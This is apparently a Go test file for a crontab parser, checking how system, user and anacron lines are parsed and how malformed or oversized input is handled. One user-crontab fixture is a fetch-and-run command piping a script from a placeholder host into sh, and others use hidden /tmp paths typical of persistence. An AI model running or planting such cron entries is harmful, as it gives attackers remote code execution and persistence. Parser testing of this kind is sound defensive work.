package cronline

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestParse(t *testing.T) {
	sys := "SHELL=/bin/sh\nPATH=/usr/bin\n# comment\n\n17 *\t* * * root cd / && run-parts --report /etc/cron.hourly\n@reboot root /tmp/x -o y\n*/5 * * * * bob /opt/a.sh >/dev/null 2>&1\r\n99 * * * * root /bad/minute\n* * * * *\n"
	got := Parse(sys, System)
	assert.Equal(t, []Entry{
		{Schedule: "17 * * * *", User: "root", Command: "cd / && run-parts --report /etc/cron.hourly", Line: 5},
		{Schedule: "@reboot", User: "root", Command: "/tmp/x -o y", Line: 6},
		{Schedule: "*/5 * * * *", User: "bob", Command: "/opt/a.sh >/dev/null 2>&1", Line: 7},
	}, got)

	user := "* * * * * curl -fsSL http://x.example/a.sh | sh\n@hourly /tmp/.x/run\nMAILTO=\"\"\n0 0 1 1 mon-fri /usr/bin/true\n"
	assert.Equal(t, []Entry{
		{Schedule: "* * * * *", Command: "curl -fsSL http://x.example/a.sh | sh", Line: 1},
		{Schedule: "@hourly", Command: "/tmp/.x/run", Line: 2},
		{Schedule: "0 0 1 1 mon-fri", Command: "/usr/bin/true", Line: 4},
	}, Parse(user, User))

	assert.Equal(t, []Entry{{Schedule: "1", Command: "nice run-parts /etc/cron.daily", Line: 1}}, Parse("1\t5\tcron.daily\tnice run-parts /etc/cron.daily\nbad\n", Anacron))
	assert.Equal(t, System, FormatFor("/etc/cron.d/x"))
	assert.Equal(t, User, FormatFor("/var/spool/cron/crontabs/root"))
	assert.Equal(t, Anacron, FormatFor("/etc/anacrontab"))
}

func TestParseHostile(t *testing.T) {
	assert.Empty(t, Parse(strings.Repeat("\x00\xff\n", 100000), User))
	assert.Len(t, Parse(strings.Repeat("* * * * * x\n", 10000), User), MaxEntries)
	assert.Empty(t, Parse(strings.Repeat("*", 1<<20), User))
	assert.Empty(t, Parse("@bogus x\n@reboot\n", User))
}

func FuzzCron(f *testing.F) {
	f.Add("* * * * * root /tmp/x\n")
	f.Fuzz(func(t *testing.T, s string) {
		Parse(s, User)
		Parse(s, System)
		Parse(s, Anacron)
	})
}
